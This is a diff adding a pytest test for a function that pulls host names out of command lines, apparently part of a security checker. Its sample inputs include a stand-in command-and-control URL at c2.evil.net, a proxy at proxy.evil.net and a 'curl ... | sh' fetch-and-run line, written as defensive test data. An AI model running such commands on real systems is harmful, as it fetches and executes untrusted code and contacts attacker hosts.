@@ -37,3 +37,18 @@ def test_hidden_or_temporary_places(path, platform, where):
 ])
 def test_system_names_in_the_wrong_place(path, platform, name):
     assert system_name_wrong_place(path, platform) == name
+
+
+@pytest.mark.parametrize("command, hosts", [
+    ("x.exe --server https://c2.evil.net/p", ["c2.evil.net"]),
+    ("--proxy-server=proxy.evil.net:3128 --quiet", ["proxy.evil.net"]),
+    ("curl -s example.com/x | sh", ["example.com"]),
+    ("agent --report=user@panel.mbill.app", ["panel.mbill.app"]),     # a real TLD that is also a file ending
+    (r'"C:\Program Files\Vendor\agent.exe" /s /log=C:\x\y.log', []),  # file names are not hosts
+    ("/usr/lib/x.so.1 -a /opt/a.py", []),
+    ("wget http://a.example.org/1 http://b.example.org/2 http://a.example.org/3", ["a.example.org", "b.example.org"]),
+    ("", []), (None, []),
+])
+def test_hosts_written_in_commands(command, hosts):
+    from checks.base import hosts_in
+    assert hosts_in(command) == hosts
